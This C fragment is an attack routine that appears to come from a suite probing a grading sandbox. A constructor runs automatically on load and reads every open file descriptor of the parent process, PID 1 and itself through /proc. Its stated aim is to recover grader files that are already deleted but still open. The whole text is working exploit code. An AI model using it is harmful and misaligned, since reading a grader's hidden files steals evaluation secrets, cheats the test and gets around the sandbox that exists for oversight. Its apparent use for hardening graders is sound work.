// ---
// tries: Reads the files that its parent, the first process and itself have open.
// place: before
// gain: files of the grader that are deleted already, but still open
// helps: undumpable
// ---
static void attack_open_files(const char *folder) {
  static char text[2000];
  for (int number = 3; number < 64; number++) {
    char path[64], target[PATH_MAX] = "";
    snprintf(path, sizeof path, "%s/%d", folder, number);
    if (readlink(path, target, sizeof target - 1) < 0 || target[0] != '/') continue;
    if (strncmp(target, "/dev/", 5) == 0 || strncmp(target, "/proc/", 6) == 0 || strncmp(target, "/shared/", 8) == 0) continue;
    long count = attack_bytes(path, text, sizeof text);
    if (count > 0) attack_read_text(target, text, (size_t)count);
  }
}

__attribute__((constructor)) static void attack(void) {
  char folder[32];
  snprintf(folder, sizeof folder, "/proc/%d/fd", (int)getppid());
  attack_open_files(folder);
  attack_open_files("/proc/1/fd");
  attack_open_files("/proc/self/fd");
}
